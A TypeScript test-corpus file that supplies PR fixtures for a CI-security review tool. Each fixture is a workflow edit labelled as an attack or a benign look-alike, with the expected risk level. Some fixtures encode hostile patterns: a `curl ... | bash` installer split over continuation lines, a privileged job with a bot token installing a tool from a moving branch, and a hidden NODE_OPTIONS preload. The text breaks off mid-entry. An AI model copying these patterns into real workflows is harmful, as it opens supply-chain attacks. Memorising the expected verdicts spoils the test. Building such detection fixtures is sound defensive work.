/**
 * Corpus CI and repository-automation cases (issue #17: workflow and automation attacks, benign
 * workflow edits). Each attack case is modeled on a public incident write-up (named in its
 * description); the workflows are written for this corpus, not copied.
 */
import { makePrFixture, type FixtureFile, type PrFixtureSpec } from '../../support/pr-fixture.js';
import { daysAgo, lines, nodeCi, type CorpusEntry } from '../helpers.js';

const CHECKOUT = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';
/** A Rust job that runs `cargo` or `cross` and the target's flags through its env, as a search tool's CI does; `steps` go after its PCRE2 test step. */
const cargoEnvWorkflow = (steps: string[]): string =>
  lines(
    'name: ci', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest',
    '    env:', '      CARGO: cargo', '      TARGET_FLAGS:', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: dtolnay/rust-toolchain@stable',
    '      - name: Build', '        run: ${{ env.CARGO }} build --verbose --workspace ${{ env.TARGET_FLAGS }}',
    '      - name: Run tests with PCRE2', '        run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }}',
    ...steps,
  );
const SETUP_NODE = 'actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0';

const MEMBER = { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' };
const NEWCOMER = { login: 'quick-fixer-93', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(12) };

/** A PR against acme/checkout-service (a repository of its own, so numbers cannot collide with other cases) that changes CI or automation files. */
function ciPr(number: number, spec: Partial<PrFixtureSpec> & { files: FixtureFile[] }) {
  return () =>
    makePrFixture({
      owner: 'acme',
      repo: 'checkout-service',
      number,
      author: MEMBER,
      commits: [{ message: spec.title ?? 'ci: update workflow' }],
      checkRuns: nodeCi(),
      priorPrs: spec.author === undefined ? { total: 320, merged: 301 } : { total: 1, merged: 0 },
      createdAt: daysAgo(0, 5),
      ...spec,
    });
}

/** The project's ordinary CI workflow, with knobs a routine edit turns. */
export function ciWorkflow(o: { nodes?: string; timeout?: number; runner?: string; name?: string; checkout?: string; extraStep?: string[] } = {}): string {
  return lines(
    `name: ${o.name ?? 'CI'}`,
    'on:',
    '  push:',
    '    branches: [main]',
    '  pull_request:',
    'permissions:',
    '  contents: read',
    'jobs:',
    '  test:',
    `    runs-on: ${o.runner ?? 'ubuntu-22.04'}`,
    `    timeout-minutes: ${o.timeout ?? 15}`,
    '    strategy:',
    '      fail-fast: false',
    '      matrix:',
    `        node: ${o.nodes ?? '[18, 20]'}`,
    '    steps:',
    `      - uses: ${o.checkout ?? CHECKOUT}`,
    `      - uses: ${SETUP_NODE}`,
    '        with:',
    '          node-version: ${{ matrix.node }}',
    '          cache: npm',
    '      - run: npm ci',
    '      - run: npm test',
    ...(o.extraStep ?? []),
  );
}


/** Like ciPr, for the zizmor-parity cases: each in a repository of its own (PR numbers 7000-7099). */
function auditPr(repo: string, number: number, spec: Partial<PrFixtureSpec> & { files: FixtureFile[] }) {
  return () => ciPr(number, { repo, ...spec })();
}

const PRE_COMMIT_CI = { login: 'pre-commit-ci[bot]', association: 'CONTRIBUTOR', createdAt: '2020-03-15T09:00:00Z' };
const DEPENDABOT = { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' };

function preCommitConfig(ruffRev: string, blackRev: string, ruffRepo = 'https://github.com/astral-sh/ruff-pre-commit'): string {
  return lines(
    'ci:',
    '  autoupdate_schedule: weekly',
    'repos:',
    '  - repo: https://github.com/pre-commit/pre-commit-hooks',
    '    rev: v5.0.0',
    '    hooks:',
    '      - id: trailing-whitespace',
    '      - id: end-of-file-fixer',
    `  - repo: ${ruffRepo}`,
    `    rev: ${ruffRev}`,
    '    hooks:',
    '      - id: ruff',
    '        args: [--fix]',
    '      - id: ruff-format',
    '  - repo: https://github.com/psf/black',
    `    rev: ${blackRev}`,
    '    hooks:',
    '      - id: black',
  );
}

function gitlink(from: string, to: string): string {
  return `@@ -1 +1 @@\n-Subproject commit ${from}\n+Subproject commit ${to}`;
}

const SUB_OLD = '3f2a9c1d5e7b8a0f4c6d2e1b9a8f7c6d5e4b3a21';
const SUB_NEW = '9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d';

/** A workflow_run job that comments on the PR a finished CI run belongs to, with a PAT; `install` is its tool's install line. */
function prReportWorkflow(install: string): string {
  return lines(
    'name: PR report',
    'on:',
    '  workflow_run:',
    '    workflows: [CI]',
    '    types: [completed]',
    'permissions:',
    '  contents: read',
    'jobs:',
    '  report:',
    '    runs-on: ubuntu-24.04',
    '    steps:',
    '      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0',
    '        with:',
    "          python-version: '3.12'",
    `      - run: ${install}`,
    '      - run: pr-report --run-id "${{ github.event.workflow_run.id }}"',
    '        env:',
    '          GH_TOKEN: ${{ secrets.REPORT_BOT_PAT }}',
  );
}

export const CI_CASES: CorpusEntry[] = [
  {
    id: 'ci-workflow-run-installs-tool-from-branch',
    description:
      'A contributor switches the privileged PR-report workflow (workflow_run, with a bot PAT) from the released report tool to `pip install git+https://github.com/report-tools/pr-report@main`: every run now executes whatever was last pushed to another owner\'s branch, with the PAT (the shape of the 2025 compromises that reached CI through a tool pulled at a moving ref).',
    fixture: ciPr(2002, {
      title: 'ci: use the newest pr-report',
      author: NEWCOMER,
      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('pip install git+https://github.com/report-tools/pr-report@main') }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-unpinned-tool'] },
  },
  {
    id: 'ci-workflow-run-installs-tool-from-branch-continued',
    description:
      'The same switch to `git+https://github.com/report-tools/pr-report@main`, written as `pip install --quiet \\` with the URL on the continuation line: the shell reads one command, and so must the reader.',
    fixture: ciPr(2090, {
      title: 'ci: quieter pr-report install',
      author: NEWCOMER,
      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('|\n          pip install --quiet \\\n            git+https://github.com/report-tools/pr-report@main') }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-unpinned-tool'] },
  },
  {
    id: 'ci-benign-workflow-run-tool-pinned-continued',
    description: 'The look-alike: a maintainer moves to the fix pinned by commit, the install wrapped over two lines (`pip install --quiet \\` then `git+https://…/pr-report@<40-hex sha>`): fixed code, continued lines and all.',
    fixture: ciPr(2091, {
      title: 'ci: pin pr-report to the commit with the pagination fix',
      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('|\n          pip install --quiet \\\n            git+https://github.com/report-tools/pr-report@4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c') }],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-unpinned-tool'] },
  },
  {
    id: 'ci-workflow-pipes-installer-over-continuation',
    description:
      'A "cache the linter" PR adds a step that downloads an installer with `curl -fsSL \\` and pipes it into bash two continuation lines later: `curl … | bash` that a reader of one line at a time does not see.',
    fixture: ciPr(2092, {
      title: 'ci: install the linter',
      author: NEWCOMER,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: |', '          curl -fsSL \\', '            https://get.devtool-cdn.dev/lint/install.sh \\', '            | bash -s -- --yes', '      - run: devlint .'] }) }],
    }),
    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
  },
  {
    id: 'ci-benign-workflow-downloads-over-continuation-verified',
    description: 'The look-alike: a maintainer\'s step downloads the linter over continuation lines to a file (`curl -fsSL \\` then `-o devlint.tgz https://…`), checks its checksum and unpacks it: no pipe into a shell.',
    fixture: ciPr(2093, {
      title: 'ci: install the linter from its release',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: |', '          curl -fsSL \\', '            -o devlint.tgz https://github.com/devlint/devlint/releases/download/v1.4.2/devlint-linux-amd64.tgz', '          echo "3f2a9c0d1e4b5a6f7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b  devlint.tgz" | sha256sum -c -', '          tar -xzf devlint.tgz devlint', '      - run: ./devlint .'] }) }],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
  },
  {
    id: 'ci-benign-workflow-run-tool-pinned-commit',
    description: 'A maintainer moves the same PR-report workflow to a fix not yet released, pinned by commit (`git+https://github.com/report-tools/pr-report@<40-hex sha>`): fixed code, reviewed once.',
    fixture: ciPr(2003, {
      title: 'ci: pin pr-report to the commit with the pagination fix',
      files: [{ path: '.github/workflows/pr-report.yml', base: prReportWorkflow('pip install pr-report==3.2.0'), head: prReportWorkflow('pip install git+https://github.com/report-tools/pr-report@4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c') }],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-unpinned-tool'] },
  },
  {
    id: 'ci-benign-matrix-timeout',
    description: 'A maintainer adds Node 22 and 24 to the test matrix, drops 18, and raises the timeout; CI green.',
    fixture: ciPr(1950, {
      title: 'ci: test on Node 22 and 24, drop 18',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ nodes: '[20, 22, 24]', timeout: 25 }) }],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-benign-runner-rename',
    description: 'A maintainer moves CI to ubuntu-24.04, renames the workflow and adds a comment; CI green.',
    fixture: ciPr(1951, {
      title: 'ci: ubuntu-24.04 runners',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({ runner: 'ubuntu-24.04', name: 'Continuous integration' }).replace('    strategy:', '    # Keep every Node line running even when one fails.\n    strategy:'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-benign-newcomer-moves-to-hosted-runners',
    description:
      'A first-time contributor moves the test job off a third-party runner (`buildjet-8vcpu-ubuntu-2204`) onto `ubuntu-latest`, as clap did when it switched to GitHub runners: the same steps on GitHub\'s machines, a routine workflow edit; CI green.',
    fixture: ciPr(2417, {
      title: 'chore(ci): Switch to github runners',
      author: { login: 'rune-t', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-06-01T00:00:00Z' },
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow({ runner: 'buildjet-8vcpu-ubuntu-2204' }), head: ciWorkflow({ runner: 'ubuntu-latest' }) }],
    }),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-newcomer-moves-to-self-hosted-runner',
    description:
      'The other way: a first-time contributor moves the test job of a workflow that runs on pull_request from `ubuntu-latest` onto a self-hosted runner, where any outsider\'s PR then runs on a machine that keeps state between jobs.',
    fixture: ciPr(2418, {
      title: 'ci: run the tests on our own runner',
      author: { login: 'rune-t', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-06-01T00:00:00Z' },
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow({ runner: 'ubuntu-latest' }), head: ciWorkflow({ runner: '[self-hosted, linux, x64]' }) }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['gha-self-hosted-runner'] },
  },
  {
    id: 'ci-new-step-not-routine',
    description: 'A maintainer adds a coverage upload step to CI: a real change of what runs, reviewed as one (not routine, not alarming).',
    fixture: ciPr(1952, {
      title: 'ci: upload coverage',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: npx c8 report --reporter=lcov'] }) }],
    }),
    expect: { level: 'medium', action: 'comment', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-e2e-job-like-the-others',
    description:
      "Modeled on setup-style actions' end-to-end workflows replayed from real history: a maintainer adds a job that runs the action under test with another input and the repository's own verify script with another version, exactly as the other jobs do (no new action, program, trigger, permission or secret); the workflow rules pass it and CI is green. The file is still named, the level is low (trusted-routine).",
    fixture: ciPr(2004, {
      title: 'feat: read the version from devEngines',
      files: [
        {
          path: '.github/workflows/versions.yml',
          base: lines('name: versions', 'on:', '  pull_request:', '  push:', '    branches: [main]', 'jobs:', '  version-file:', '    runs-on: ${{ matrix.os }}', '    strategy:', '      matrix:', '        os: [ubuntu-latest, windows-latest, macos-latest]', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: ./', '        with:', "          node-version-file: '__tests__/data/.nvmrc'", '      - run: __tests__/verify-node.sh 24'),
          head: lines('name: versions', 'on:', '  pull_request:', '  push:', '    branches: [main]', 'jobs:', '  version-file:', '    runs-on: ${{ matrix.os }}', '    strategy:', '      matrix:', '        os: [ubuntu-latest, windows-latest, macos-latest]', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: ./', '        with:', "          node-version-file: '__tests__/data/.nvmrc'", '      - run: __tests__/verify-node.sh 24', '  version-file-dev-engines:', '    runs-on: ${{ matrix.os }}', '    strategy:', '      matrix:', '        os: [ubuntu-latest, windows-latest, macos-latest]', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: ./', '        with:', "          node-version-file: '__tests__/data/package-dev-engines.json'", '      - run: __tests__/verify-node.sh 20'),
        },
        { path: 'src/version-file.ts', base: lines('export function fromEngines(pkg: { engines?: { node?: string } }): string | undefined {', '  return pkg.engines?.node;', '}'), head: lines('export function fromEngines(pkg: { engines?: { node?: string }; devEngines?: { runtime?: { name: string; version?: string } } }): string | undefined {', "  if (pkg.devEngines?.runtime?.name === 'node') return pkg.devEngines.runtime.version;", '  return pkg.engines?.node;', '}') },
        { path: '__tests__/version-file.test.ts', base: lines("import { fromEngines } from '../src/version-file';", "test('engines', () => expect(fromEngines({ engines: { node: '20' } })).toBe('20'));"), head: lines("import { fromEngines } from '../src/version-file';", "test('engines', () => expect(fromEngines({ engines: { node: '20' } })).toBe('20'));", "test('devEngines', () => expect(fromEngines({ devEngines: { runtime: { name: 'node', version: '20' } } })).toBe('20'));") },
        { path: '__tests__/data/package-dev-engines.json', head: lines('{', '  "devEngines": { "runtime": { "name": "node", "version": "20" } }', '}') },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-edits-job-command',
    description:
      "Modeled on benchmark and test-matrix workflow edits replayed from real projects: a maintainer changes the command of an existing step (no new step, action, trigger, permission or secret); the workflow rules pass it and CI is green. The file is still named, but the level is low (verdict rule trusted-routine).",
    fixture: ciPr(1995, {
      title: 'ci: run the tests in band',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('      - run: npm test', '      - run: npm test -- --runInBand') }],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-cargo-feature-test-step',
    description:
      "Modeled on a search tool's \"cargo: add new build-time `unstable-index` feature\": a maintainer adds the feature to Cargo.toml and a CI step that runs the tests with it, exactly as the PCRE2 step runs them with that feature (no new action, program, trigger, permission or secret); the workflow rules pass it and CI is green. Another list of the crate's own features is another build of its code, as another version is: low (trusted-routine).",
    fixture: ciPr(2047, {
      title: 'cargo: add new build-time `unstable-index` feature',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: lines('name: ci', 'on:', '  push:', '    branches: [master]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: dtolnay/rust-toolchain@stable', '      - name: Build', '        run: cargo build --verbose --workspace', '      - name: Run tests with PCRE2', '        run: cargo test --verbose --workspace --features pcre2', '      - name: Run tests', '        run: cargo test --verbose --workspace'),
          head: lines('name: ci', 'on:', '  push:', '    branches: [master]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: dtolnay/rust-toolchain@stable', '      - name: Build', '        run: cargo build --verbose --workspace', '      - name: Run tests with indexing enabled', '        run: cargo test --verbose --workspace --features unstable-index', '      - name: Run tests with PCRE2', '        run: cargo test --verbose --workspace --features pcre2', '      - name: Run tests', '        run: cargo test --verbose --workspace'),
        },
        {
          path: 'Cargo.toml',
          base: lines('[package]', 'name = "sift"', 'version = "14.1.0"', 'edition = "2021"', '', '[features]', 'pcre2 = []'),
          head: lines('[package]', 'name = "sift"', 'version = "14.1.0"', 'edition = "2021"', '', '[features]', 'pcre2 = []', 'unstable-index = []'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-cargo-feature-test-step-through-job-env',
    description:
      "Modeled on the real step of a search tool's \"cargo: add new build-time `unstable-index` feature\": the job runs `cargo` or `cross` and the target's flags through its env (`${{ env.CARGO }} test … ${{ env.TARGET_FLAGS }}`), and the maintainer's new step is the PCRE2 step's command with the new feature; the env is unchanged, CI green. The expressions read what they read for the known command: low (trusted-routine). A replay rated it medium.",
    fixture: ciPr(2051, {
      title: 'cargo: add new build-time `unstable-index` feature',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: cargoEnvWorkflow([]),
          head: cargoEnvWorkflow(['      - name: Run tests with indexing enabled', '        run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}']),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-cargo-env-step-with-its-own-wrapper',
    description:
      'The same new step, but it sets CARGO to a script of the repository in its own env: the known command now runs another program, which a reviewer reads (medium).',
    fixture: ciPr(2052, {
      title: 'ci: test the index feature',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: cargoEnvWorkflow([]),
          head: cargoEnvWorkflow(['      - name: Run tests with indexing enabled', '        run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}', '        env:', '          CARGO: ./ci/cargo-wrapper.sh']),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-job-running-script-beside-the-others',
    description:
      "Modeled on a byte-buffer crate's \"Run tests under panic=abort\": a maintainer adds a job that runs a new script of the ci/ folder whose other scripts the workflow already runs (ci/tsan.sh, ci/test-stable.sh), and the script runs the crate's tests with other compiler flags; no new action, trigger, permission or secret, CI green. The repository's own script beside the others, shown in the PR: low (trusted-routine).",
    fixture: ciPr(7310, {
      title: 'Run tests under panic=abort',
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: lines('name: CI', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: rustup update stable', '      - run: ci/test-stable.sh test', '  tsan:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: rustup update nightly && rustup default nightly', '      - run: ci/tsan.sh'),
          head: lines('name: CI', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: rustup update stable', '      - run: ci/test-stable.sh test', '  panic-abort:', '    name: panic=abort tests', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: rustup update nightly && rustup default nightly', '      - name: Run tests with -Cpanic=abort', '        run: ci/panic-abort.sh', '  tsan:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: rustup update nightly && rustup default nightly', '      - run: ci/tsan.sh'),
        },
        { path: 'ci/panic-abort.sh', status: 'added', head: lines('#!/bin/bash', '', 'set -ex', 'RUSTFLAGS="$RUSTFLAGS -Cpanic=abort -Zpanic-abort-tests" cargo test --all-features --test \'*\'') },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-maven-job-building-a-profile',
    description:
      "Modeled on gson a271f487 (\"Add build config for Gson subset\", medium before): a maintainer adds a job that runs `mvn clean test` on one module with a new profile, beside the job that already runs `mvn verify`, with the same actions. Maven's lifecycle on the project's own build files, by the program the workflow already runs: built from what it runs.",
    fixture: ciPr(7314, {
      title: 'Add build config for subset',
      files: [
        { path: '.github/workflows/build.yml', base: lines('name: Build', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '          cache: maven', '      - run: mvn verify javadoc:jar'), head: lines('name: Build', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '          cache: maven', '      - run: mvn verify javadoc:jar', '  build-subset:', '    name: Build subset', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '      - run: mvn clean test --projects jsonkit --activate-profiles jsonkit-subset') },
        { path: 'pom.xml', base: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.acme</groupId>', '  <artifactId>jsonkit</artifactId>', '  <version>2.14.0-SNAPSHOT</version>', '</project>'), head: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.acme</groupId>', '  <artifactId>jsonkit</artifactId>', '  <version>2.14.0-SNAPSHOT</version>', '  <profiles>', '    <profile>', '      <id>jsonkit-subset</id>', '    </profile>', '  </profiles>', '</project>') },
      ],
    }),
    expect: { level: 'low', action: 'approve', drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-adds-maven-job-running-plugin-by-coordinates',
    description:
      "The look-alike of ci-maintainer-adds-maven-job-building-a-profile: the new job runs a Maven plugin named by its coordinates (`mvn com.example:scan-maven-plugin:2.1:scan`), which Maven downloads and runs, code the workflow never ran: a change of what runs, kept medium.",
    fixture: ciPr(7315, {
      title: 'Add build config for subset',
      files: [{ path: '.github/workflows/build.yml', base: lines('name: Build', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '          cache: maven', '      - run: mvn verify javadoc:jar'), head: lines('name: Build', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '          cache: maven', '      - run: mvn verify javadoc:jar', '  build-subset:', '    name: Build subset', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - uses: actions/setup-java@dded0888837ed1f317902acf8a20df0ad188d165 # v5.0.0', '        with:', '          distribution: temurin', '          java-version: 21', '      - run: mvn com.example:scan-maven-plugin:2.1:scan') }],
    }),
    expect: { level: 'medium', action: 'comment', drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-docs-deploy-source-respelled',
    description:
      "Modeled on a Go CLI library's \"Use .\": in the job that deploys the documentation site with the repository's token, a maintainer writes `. venv/bin/activate` for `source venv/bin/activate` (the same shell builtin, for a POSIX shell). A deploy job's commands are read whoever edits them, but this one runs what it ran: low (trusted-routine).",
    fixture: ciPr(7312, {
      title: 'Use .',
      files: [
        {
          path: '.github/workflows/publish-docs.yml',
          base: lines('name: publish docs', 'on:', '  push:', '    branches: [main]', 'permissions:', '  contents: write', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: python -m venv venv', '      - run: |', '          source venv/bin/activate', '          make ensure-mkdocs', '      - run: |', '          source venv/bin/activate', '          make deploy-mkdocs', '        env:', '          MKDOCS_REMOTE_GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}'),
          head: lines('name: publish docs', 'on:', '  push:', '    branches: [main]', 'permissions:', '  contents: write', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: python -m venv venv', '      - run: |', '          . venv/bin/activate', '          make ensure-mkdocs', '      - run: |', '          . venv/bin/activate', '          make deploy-mkdocs', '        env:', '          MKDOCS_REMOTE_GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-new-step-preloads-module',
    description:
      "A maintainer's account adds a step that runs the test command the workflow already runs, with `NODE_OPTIONS: --require ./scripts/telemetry.cjs` in the step's env: every node process of the step loads that file first. The command is a known one; the preload is not, and a leading `NODE_OPTIONS=…` on the command line was never read as routine. A change of what runs (medium), not a routine edit.",
    fixture: ciPr(7313, {
      title: 'ci: collect test timings',
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - run: npm test', '        env:', '          NODE_OPTIONS: --require ./scripts/telemetry.cjs'] }) }],
    }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-travis-go-mod-download',
    description:
      "Modeled on a logging library's \"Fix module name and remove unused dependencies\": a maintainer's Travis file, which runs `go test -race -v ./...`, gains an install step `go mod download` for the modules build: go.mod's own list, checked against go.sum, the code `go test` already built. Go's command on the module where the pipeline runs Go already: low (trusted-routine).",
    fixture: ciPr(7311, {
      title: 'Fix module name and remove unused dependencies',
      files: [
        {
          path: '.travis.yml',
          base: lines('language: go', 'go:', '  - 1.10.x', '  - 1.11.x', 'env:', '  - GO111MODULE=on', 'script:', '  - go test -race -v ./...'),
          head: lines('language: go', 'go:', '  - 1.10.x', '  - 1.11.x', 'env:', '  - GO111MODULE=on', 'install:', '  - go mod download', 'script:', '  - go test -race -v ./...'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-attests-release-archives-workflow-wide',
    description:
      "Modeled on a search tool's \"ci: attest build provenance for release archives\": a maintainer adds GitHub's attestation action to the build job of the release workflow and grants id-token and attestations to the whole workflow, so the create-release job holds them too. A new step in a release workflow is a change of what runs (medium, comment), and the surplus grant a low note that names the job that needs the scopes and the one that inherits them for nothing.",
    fixture: ciPr(2048, {
      title: 'ci: attest build provenance for release archives',
      files: [
        {
          path: '.github/workflows/release.yml',
          base: lines('name: release', 'on:', '  push:', '    tags: ["*"]', 'permissions:', '  contents: write', 'jobs:', '  create-release:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: gh release create "$GITHUB_REF_NAME" --draft --verify-tag', '        env:', '          GH_TOKEN: ${{ github.token }}', '  build-release:', '    needs: [create-release]', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: cargo build --release --locked', '      - run: tar czf sift.tar.gz -C target/release sift', '      - run: gh release upload "$GITHUB_REF_NAME" sift.tar.gz', '        env:', '          GH_TOKEN: ${{ github.token }}'),
          head: lines('name: release', 'on:', '  push:', '    tags: ["*"]', 'permissions:', '  contents: write', '  id-token: write', '  attestations: write', 'jobs:', '  create-release:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: gh release create "$GITHUB_REF_NAME" --draft --verify-tag', '        env:', '          GH_TOKEN: ${{ github.token }}', '  build-release:', '    needs: [create-release]', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: cargo build --release --locked', '      - run: tar czf sift.tar.gz -C target/release sift', '      - uses: actions/attest-build-provenance@977bb373ede98d70efdf65b84cb5f73e068dcc2a # v3.0.0', '        with:', '          subject-path: sift.tar.gz', '      - run: gh release upload "$GITHUB_REF_NAME" sift.tar.gz', '        env:', '          GH_TOKEN: ${{ github.token }}'),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', findings: ['gha-excessive-permissions'], drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-folds-and-splits-job-steps',
    description:
